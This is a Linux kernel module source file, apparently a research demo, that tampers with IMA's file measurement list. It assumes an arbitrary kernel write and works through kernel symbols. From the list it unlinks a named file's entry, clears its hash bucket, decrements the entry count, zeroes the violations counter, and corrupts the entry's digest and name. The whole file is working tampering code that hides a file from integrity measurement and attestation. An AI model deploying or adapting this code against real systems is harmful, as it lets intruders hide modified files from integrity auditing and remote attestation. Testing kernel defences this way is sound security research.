// SPDX-License-Identifier: GPL-2.0
/*
 * An attacker who can write to any address of the kernel, and wants one file not to
 * have been measured: he takes it off IMA's list, and changes what else tells of it.
 * Every kernel has what he needs; whether he gets it is what "make run" shows.
 *
 * victim=NAME: the file, by the name that it has on the list.
 */
#include <linux/module.h>
#include <linux/rculist.h>

#include <security/integrity/ima/ima.h>

/* It has one of its own. */
#undef pr_fmt
#define pr_fmt(fmt) "story: " fmt

#include "demo.h"

static char *victim;
module_param(victim, charp, 0);

static struct {
	struct list_head *ima_measurements;
	struct ima_h_table *ima_htable;
	int *ima_hash_algo_idx;
} k;

static const struct symbol symbols[] = {
	{ "copy_to_kernel_nofault", &write_nofault },
#define SYMBOL(name) { #name, &k.name }
	SYMBOL(ima_measurements),
	SYMBOL(ima_htable),
	SYMBOL(ima_hash_algo_idx),
};

/* A variable has another address, in the direct map; what is there already has none. */
static void *direct(void *p)
{
	return (unsigned long)p >= __START_KERNEL_map ? __va(__pa_symbol(p)) : NULL;
}

/* By each address that leads there, until one does. */
static bool put(void *p, const void *val, size_t size)
{
	void *other = direct(p);

	return !write_nofault(p, val, size) || (other && !write_nofault(other, val, size));
}

#define attack(what, lvalue, value)						\
do {										\
	typeof(lvalue) __val = (value);						\
										\
	pr_info(what ": %s\n", put(&(lvalue), &__val, sizeof(__val)) ?		\
		"done" : "page fault");						\
} while (0)

static struct ima_queue_entry *find_victim(void)
{
	struct ima_queue_entry *qe;

	list_for_each_entry(qe, k.ima_measurements, later)
		if (!strcmp(qe->entry->template_data[1].data, victim))
			return qe;

	return NULL;
}

static int __init ima_attack_init(void)
{
	int err = find_symbols(symbols, ARRAY_SIZE(symbols));
	struct ima_queue_entry *qe, *next;
	struct ima_template_entry *entry;
	struct hlist_head *head;
	long len;
	u8 *digest;

	if (err)
		return err;
	qe = victim ? find_victim() : NULL;
	if (!qe) {
		pr_err("FAIL no such entry: %s\n", victim);
		return -ENOENT;
	}

	next = list_next_entry(qe, later);
	entry = qe->entry;
	digest = entry->digests[*k.ima_hash_algo_idx].digest;
	head = &k.ima_htable->queue[ima_hash_key(digest)];
	len = atomic_long_read(&k.ima_htable->len);

	/* Forwards and backwards: neither a reader nor the next entry trips over it. */
	attack("attack: unlink the entry, forwards", list_prev_entry(qe, later)->later.next, &next->later);
	attack("attack: unlink the entry, backwards", next->later.prev, qe->later.prev);
	attack("attack: the table that finds it", head->first, NULL);
	attack("attack: the number of entries", k.ima_htable->len.counter, len - 1);
	attack("attack: the number of violations", k.ima_htable->violations.counter, 0);
	attack("attack: a byte of its digest", *digest, *digest ^ 1);
	attack("attack: a byte of its name", entry->template_data[1].data[1], 'X');

	return 0;
}
module_init(ima_attack_init);

/* What it has done can't be undone. */
static void __exit ima_attack_exit(void)
{
}
module_exit(ima_attack_exit);

MODULE_DESCRIPTION("An attack on IMA's measurement list");
MODULE_LICENSE("GPL");
